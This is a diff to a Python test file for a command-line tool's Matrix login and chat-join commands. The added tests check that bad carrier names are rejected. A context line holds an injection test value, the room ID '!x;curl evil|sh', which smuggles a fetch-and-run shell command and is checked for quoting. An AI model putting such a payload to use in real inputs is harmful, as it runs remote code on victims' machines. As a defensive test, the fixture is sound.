@@ -174,6 +174,9 @@ def test_bad_login_arguments_fail_before_the_password_is_asked(tmp_path: Path) -
     badly_named = run("--home", str(home), "carrier", "login", "matrix", "My Bot", "--homeserver",
                       "http://127.0.0.1:9", "--user", "bot", "--create-room")
     assert badly_named.returncode == 3 and "carrier name" in badly_named.stderr
+    newline = run("--home", str(home), "carrier", "login", "matrix", "mx\n", "--homeserver", "http://127.0.0.1:9",
+                  "--user", "bot", "--create-room")
+    assert newline.returncode == 3 and not (home / "tokens").exists()
     unreachable = login(home, "mx", "--homeserver", "http://127.0.0.1:9", "--user", "bot", "--create-room")
     assert unreachable.returncode == 25 and "unreachable" in unreachable.stderr
 
@@ -188,6 +191,10 @@ def test_joining_a_matrix_chat_without_a_bot_says_how(room: dict[str, object], t
         "type": "matrix", "homeserver": "http://x", "room_id": "!x;curl evil|sh"}}})
     trapped = pb(dave, "alice", "chat", "join", hostile, secret=CHAT_SECRET)
     assert trapped["rc"] == "24" and "--room '!x;curl evil|sh'" in trapped["err"]  # quoted for the shell
+    unusable = _invite({"v": 1, "chat": "trap", "carriers": {"Bad Name": {
+        "type": "matrix", "homeserver": "http://x", "room_id": "!x:y"}}})
+    named = pb(dave, "alice", "chat", "join", unusable, secret=CHAT_SECRET)
+    assert named["rc"] == "3" and "login" not in named["err"]  # no hint to log in under a name it would refuse
 
 
 def test_logging_in_again_keeps_the_chosen_start(tmp_path: Path) -> None:
